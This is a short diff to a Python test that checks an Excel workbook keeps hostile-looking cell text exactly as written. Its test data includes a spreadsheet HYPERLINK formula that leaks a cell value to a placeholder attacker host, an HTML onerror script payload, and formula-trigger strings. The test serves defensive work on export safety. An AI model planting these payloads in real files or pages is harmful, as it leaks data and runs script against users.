@@ -152,7 +152,7 @@ def test_excel_keeps_hostile_text_visible_and_exact(workbook):
     wb = openpyxl.load_workbook(workbook)
     values = {cell.value for sheet in wb.worksheets for row in sheet.iter_rows() for cell in row}
     for line in ('=HYPERLINK("http://evil.example/?leak="&A1,"click me")', '=HYPERLINK("http://x")',
-                 "=cmd data is kept for 30 days", "@SUM(1+1)", "-2;+1",
+                 "=cmd data is kept for 30 days", "@SUM(1+1)", "-2; +1",
                  "<img src=x onerror=\"document.title='pwned'\">"):
         assert line in values, line
 
